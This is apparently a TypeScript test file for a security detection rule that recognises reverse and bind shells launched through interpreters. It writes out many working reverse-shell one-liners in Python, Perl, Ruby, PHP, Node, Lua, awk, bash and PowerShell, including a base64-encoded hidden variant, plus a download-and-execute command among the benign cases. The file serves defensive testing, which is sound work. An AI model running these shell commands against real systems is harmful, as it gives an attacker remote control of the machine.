/**
 * Interpreter reverse shells (exec-interpreter-socket-shell.ts) as `attrs.exec.socketIo` reads
 * them through real canonical readings (exec-canonical.ts, exec-interpreter.ts), and MLS-RAY-015
 * through the shipped rule set and the real engine. The positives are the one-liners of the
 * public reverse-shell cheat sheets (pentestmonkey, PayloadsAllTheThings), written out here.
 */
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds, SA } from './exec-events.test-support.js';
import { readCalls } from './exec-interpreter-calls.js';
import { lexCode } from './exec-interpreter.js';
import { socketShell } from './exec-interpreter-socket-shell.js';
import type { Lang } from './exec-interpreter-token.js';

const io = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.socketIo;
const H = '203.0.113.9';

describe('interpreter code handing a socket to a shell', () => {
  it('reads Python: streams dup2-ed onto the socket, the socket as a child’s streams, a command loop', () => {
    expect(io(['python3', '-c', `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${H}",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);`])).toEqual(['shell sh']);
    expect(io(['python3', '-c', `import os,pty,socket;s=socket.socket();s.connect(("${H}",4242));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")`])).toEqual(['shell sh']);
    expect(io(['python', '-c', `import socket,subprocess;s=socket.socket();s.connect(("${H}",4242));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())`])).toEqual(['shell sh']);
    expect(io(['python3', '-c', `import os,socket;s=socket.create_connection(("${H}",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execl("/bin/bash","bash","-i")`])).toEqual(['shell bash']);
    // A bind shell: the accepted connection's streams.
    expect(io(['python3', '-c', 'import socket as so,os,pty\nl=so.socket()\nl.bind(("0.0.0.0",4444))\nl.listen(1)\nc,a=l.accept()\nfor f in (0,1,2): os.dup2(c.fileno(),f)\npty.spawn("/bin/bash")'])).toEqual(['shell bash']);
    // `with … as s` and a command loop over what the peer sends.
    expect(io(['python3', '-c', `import socket,subprocess\nwith socket.create_connection(("${H}",4242)) as s:\n  while True:\n    s.send(subprocess.getoutput(s.recv(1024).decode()).encode())`])).toEqual(['shell python']);
    expect(io(['python3', '-c', `import socket;s=socket.create_connection(("${H}",9));exec(s.recv(65536))`])).toEqual(['shell python']);
  });

  it('reads Perl, Ruby, PHP, Node, Lua and awk', () => {
    expect(io(['perl', '-e', `use Socket;$i="${H}";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`])).toEqual(['shell sh']);
    expect(io(['perl', '-MIO', '-e', `$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"${H}:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`])).toEqual(['shell perl']);
    expect(io(['ruby', '-rsocket', '-e', `f=TCPSocket.open("${H}",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`])).toEqual(['shell sh']);
    expect(io(['ruby', '-rsocket', '-e', `exit if fork;c=TCPSocket.new("${H}","4242");loop{c.gets.chomp!;(exit! if $_=="exit");($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))rescue c.puts "failed: #{$_}"}`])).toEqual(['shell ruby']);
    expect(io(['ruby', '-rsocket', '-e', `c=TCPSocket.new("${H}",4242);spawn("/bin/sh","-i",in: c,out: c,err: c)`])).toEqual(['shell sh']);
    // The socket a block is given (`{ |c| … }`).
    expect(io(['ruby', '-rsocket', '-e', `TCPSocket.open("${H}",4242) { |c| spawn("/bin/sh","-i",in: c,out: c,err: c) }`])).toEqual(['shell sh']);
    expect(io(['php', '-r', `$sock=fsockopen("${H}",1234);exec("/bin/sh -i <&3 >&3 2>&3");`])).toEqual(['shell sh']);
    expect(io(['php', '-r', `$sock=fsockopen("${H}",4242);$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);`])).toEqual(['shell sh']);
    expect(io(['node', '-e', `var n=require("net"),c=require("child_process"),s=new n.Socket();s.connect(4444,"${H}",function(){var sh=c.spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);});`])).toEqual(['shell sh']);
    expect(io(['lua', '-e', `require('socket');require('os');t=socket.tcp();t:connect('${H}','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');`])).toEqual(['shell sh']);
    expect(io(['awk', `BEGIN {s = "/inet/tcp/0/${H}/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}`])).toEqual(['shell awk']);
  });

  it('reads the code wherever the exec runs it: a shell script, beside bash’s own /dev/tcp reading', () => {
    expect(io(['sh', '-c', `cd /tmp && python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("${H}",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`])).toEqual(['shell bash']);
    expect(io(['bash', '-c', `bash -i >& /dev/tcp/${H}/4444 0>&1; php -r '$s=fsockopen("${H}",4445);exec("sh <&3 >&3 2>&3");'`])).toEqual(['shell bash', 'shell sh']);
  });

  it('leaves code that opens a socket and runs spelled commands beside it', () => {
    for (const argv of [
      // A health check, then a script: the socket is closed, never a shell's stream.
      ['python3', '-c', 'import socket,subprocess;s=socket.create_connection(("db",5432));s.close();subprocess.call(["sh","/app/migrate.sh"])'],
      // Its stdout moved to a log file (not the socket) before the shell runs.
      ['python3', '-c', 'import socket,os;f=open("/tmp/log","w");os.dup2(f.fileno(),1);s=socket.create_connection(("db",5432));os.system("sh /app/run.sh")'],
      ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(LOG,">/tmp/l");open(STDOUT,">&LOG");exec("/bin/sh -i")'],
      // Descriptors 0–2 only: `2>&1` is no inherited socket.
      ['php', '-r', '$s=fsockopen("db",5432);exec("sh run.sh 2>&1");'],
      ['node', '-e', 'const net=require("net");const s=net.connect(80,"h");const sh=require("child_process").spawn("sh",["-c","date"]);sh.stdout.pipe(process.stdout);'],
      // gawk fetching a page and running a spelled command.
      ['awk', 'BEGIN { s="/inet/tcp/0/example.com/80"; print "GET / HTTP/1.0\\r\\n\\r\\n" |& s; while ((s |& getline l) > 0) print l; "date" | getline d; print d }'],
      ['ruby', '-rsocket', '-e', 'c=TCPSocket.new("h",80);c.puts "x";puts c.gets;system("uptime")'],
      // Data from the peer in a spelled command: not the command itself.
      ['python3', '-c', 'import socket,os;s=socket.create_connection(("h",80));d=s.recv(100);os.system("echo ok "+d.decode())'],
      // A descriptor shell line without any socket opened; a command loop over stdin, no socket.
      ['php', '-r', 'exec("/bin/sh -i <&3 >&3 2>&3");'],
      ['perl', '-e', 'system $_ while <>'],
      // Names that only look like sockets (no net import in Node; `socket` not called in Python).
      ['node', '-e', 'const db=require("pg");const c=new db.Client();c.connect();require("child_process").spawn("sh",[],{stdio:[c,c,c]})'],
      ['python3', '-c', 'import socket,os;print(socket.gethostname());os.dup2(os.open("/dev/null",1),0);os.system("sh x.sh")'],
    ]) expect(io(argv), argv.join(' ')).toEqual([]);
  });

  it('never throws and stays bounded on random tokens of every language', () => {
    const r = mulberry32(29);
    const WORDS = ['s', 'c', '$c', 'S', '=', '(', ')', '[', ']', ',', ';', '.', '->', ':', '|&', '<', '>', 'socket', 'create_connection', 'accept', 'dup2', 'fileno', 'open', 'STDIN', '">&S"', 'fdopen', 'reopen', 'TCPSocket', 'fsockopen', 'proc_open', 'require("net")', 'Socket', 'pipe', 'stdin', 'stdout', 'stdio', 'tcp', 'getline', '"/inet/tcp/0/h/1"', 'recv', 'gets', 'system', 'exec', '"sh <&3"', '"/bin/sh"', 'os', 'pty', 'spawn', '0', '3', '\n', 'with', 'as', 'in', '=>'];
    const langs: Lang[] = ['python', 'perl', 'ruby', 'php', 'js', 'lua', 'awk'];
    for (let n = 0; n < 2000; n++) {
      const lang = langs[n % langs.length]!;
      const code = Array.from({ length: Math.floor(r() * 40) }, () => WORDS[Math.floor(r() * WORDS.length)]!).join(r() < 0.5 ? ' ' : '');
      const tokens = lexCode(code, lang).tokens;
      const got = socketShell(tokens, lang, readCalls(tokens, lang, code));
      expect(got === null || /^shell \S+$/.test(got), code).toBe(true);
    }
  });
});

describe('MLS-RAY-015 through the shipped rules', () => {
  it('alerts on interpreter reverse shells, from a person or a workload', () => {
    for (const argv of [
      ['python3', '-c', `import os,pty,socket;s=socket.socket();s.connect(("${H}",4242));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")`],
      ['php', '-r', `$sock=fsockopen("${H}",1234);exec("/bin/sh -i <&3 >&3 2>&3");`],
      ['perl', '-MIO', '-e', `$c=new IO::Socket::INET(PeerAddr,"${H}:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`],
    ]) {
      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-015');
      expect(execRuleIds(argv, SA), argv.join(' ')).toContain('MLS-RAY-015');
    }
  });

  it('leaves interpreter code that talks to a service and runs its own commands', () => {
    for (const argv of [
      ['python3', '-c', 'import socket,subprocess;s=socket.create_connection(("db",5432));s.close();subprocess.call(["sh","/app/migrate.sh"])'],
      ['ruby', '-rsocket', '-e', 'c=TCPSocket.new("h",80);c.puts "x";puts c.gets;system("uptime")'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-015');
  });
});

describe('PowerShell reverse and bind shells', () => {
  const TCP_ONE_LINER = `$client = New-Object System.Net.Sockets.TCPClient("${H}",4242);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + "PS " + (pwd).Path + "> ";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()`;

  it('reads the TCPClient command loop, spelled or encoded, a listener, a ScriptBlock and a redirected shell', () => {
    expect(io(['pwsh', '-nop', '-c', TCP_ONE_LINER])).toEqual(['shell powershell']);
    expect(io(['powershell', '-NoP', '-NonI', '-W', 'Hidden', '-Exec', 'Bypass', '-EncodedCommand', Buffer.from(TCP_ONE_LINER, 'utf16le').toString('base64')])).toEqual(['shell powershell']);
    expect(io(['pwsh', '-c', '$l = [System.Net.Sockets.TcpListener]4444; $l.Start(); $c = $l.AcceptTcpClient(); $r = New-Object IO.StreamReader($c.GetStream()); $w = New-Object IO.StreamWriter($c.GetStream()); while ($true) { $cmd = $r.ReadLine(); $w.WriteLine((Invoke-Expression $cmd | Out-String)); $w.Flush() }'])).toEqual(['shell powershell']);
    expect(io(['pwsh', '-c', `$c = [Net.Sockets.TcpClient]::new("${H}", 443); $r = [IO.StreamReader]::new($c.GetStream()); while ($l = $r.ReadLine()) { & ([ScriptBlock]::Create($l)) }`])).toEqual(['shell powershell']);
    expect(io(['pwsh', '-c', `$c = New-Object Net.Sockets.TCPClient('${H}', 443); $s = $c.GetStream(); $p = New-Object System.Diagnostics.Process; $p.StartInfo.FileName = '/bin/sh'; $p.StartInfo.RedirectStandardInput = $true; $p.StartInfo.RedirectStandardOutput = $true; $p.StartInfo.UseShellExecute = $false; $p.Start(); $s.CopyToAsync($p.StandardInput.BaseStream); $p.StandardOutput.BaseStream.CopyTo($s)`])).toEqual(['shell sh']);
  });

  it('leaves a TCP health check, a download run as code, and spelled text run beside a socket', () => {
    expect(io(['pwsh', '-c', '$c = New-Object Net.Sockets.TcpClient; $c.Connect("db", 5432); if ($c.Connected) { "up" }; $c.Close()'])).toEqual([]);
    expect(io(['pwsh', '-c', 'iex (irm https://get.example.org/install.ps1)'])).toEqual([]);
    expect(io(['pwsh', '-c', `$c = New-Object Net.Sockets.TcpClient("${H}", 80); $s = $c.GetStream(); $n = $s.Read($b, 0, 10); iex 'Get-Date'`])).toEqual([]);
    expect(io(['pwsh', '-c', '$r = New-Object IO.StreamReader("/app/cmds.txt"); while ($l = $r.ReadLine()) { iex $l }'])).toEqual([]);
  });

  it('alerts through MLS-RAY-015', () => {
    expect(execRuleIds(['pwsh', '-nop', '-c', TCP_ONE_LINER])).toContain('MLS-RAY-015');
    expect(execRuleIds(['pwsh', '-nop', '-c', TCP_ONE_LINER], SA)).toContain('MLS-RAY-015');
  });
});
